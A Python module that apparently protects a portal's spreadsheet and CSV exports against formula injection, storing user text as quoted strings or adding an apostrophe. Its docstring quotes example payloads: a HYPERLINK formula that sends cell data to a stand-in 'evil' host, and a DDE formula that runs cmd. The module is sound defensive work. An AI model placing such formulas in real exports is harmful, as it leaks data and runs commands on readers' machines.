"""Writing user-entered text into exported spreadsheets without spreadsheet formula injection.

Agencies type free text (an evidence summary, a document number, a note, a name) that ends up
in workbooks opened by leaders and reviewers. Text starting with ``=``, ``+``, ``-``, ``@``, a
TAB or a CR is read by Excel or LibreOffice as a formula (``=HYPERLINK("https://evil…"&C2,"x")``
sends a neighbouring cell to a stranger; ``=cmd|' /C calc'!A0`` is DDE). OWASP "CSV Injection"
and SECURITY_TESTS.md IM4 ask every export to neutralise it. The rule, used by every .xlsx and
.csv writer of the portal:

- .xlsx: such text is stored as a *string* cell (openpyxl otherwise stores any text starting
  with ``=`` as a formula) with Excel's "quote prefix" flag, the same as typing ``'=…`` by hand:
  the text is shown exactly as entered, never evaluated, and stays text when the cell is
  edited. Nothing is added to the value, so a workbook the portal reads back (the framework
  template) round-trips unchanged.
- .csv: a file has no cell types, so such text gets a leading apostrophe (``'=…``), which Excel
  hides and never evaluates. A plain number (``-12``, ``+3,5``) is left alone: it cannot be a
  formula and must stay a number for the reader.
- Numbers, dates and booleans are never touched: they stay numbers.
- Characters an .xlsx cannot hold (C0 control characters other than TAB, LF, CR) are dropped
  rather than failing the whole export.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

#: Leading characters that make a spreadsheet read text as a formula (OWASP CSV Injection).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d.,\s]*")


def is_formula_like(value: object) -> bool:
    """True for text a spreadsheet would evaluate (see the module docstring)."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def clean_text(value: str) -> str:
    """``value`` without the characters an .xlsx cannot store."""
    return ILLEGAL_CHARACTERS_RE.sub("", value)


def protect_cell(cell: Any) -> Any:
    """Marks a cell holding formula-like text as plain text (a string, quote prefix); other
    cells are left as they are. Returns the cell."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def write_cell(ws: Worksheet, row: int, column: int, value: Any) -> Any:
    """``ws.cell(row, column, value)`` for text that may come from a user: never a formula."""
    if isinstance(value, str):
        value = clean_text(value)
    return protect_cell(ws.cell(row=row, column=column, value=value))


def append_row(ws: Worksheet | WriteOnlyWorksheet, values: Sequence[Any]) -> None:
    """``ws.append(values)`` for a normal or a write-only worksheet, text never a formula."""
    cleaned = [clean_text(v) if isinstance(v, str) else v for v in values]
    if isinstance(ws, WriteOnlyWorksheet):
        cells: list[Any] = []
        for value in cleaned:
            if is_formula_like(value):
                value = protect_cell(WriteOnlyCell(ws, value=value))
            cells.append(value)
        ws.append(cells)
        return
    ws.append(cleaned)
    row = ws.max_row  # the row just appended
    for column, value in enumerate(cleaned, start=1):
        if is_formula_like(value):
            protect_cell(ws.cell(row=row, column=column))


def csv_value(value: Any) -> Any:
    """A value for ``csv.writer``: formula-like text (not a plain number) gets a leading ``'``."""
    if is_formula_like(value) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_value(v) for v in values]
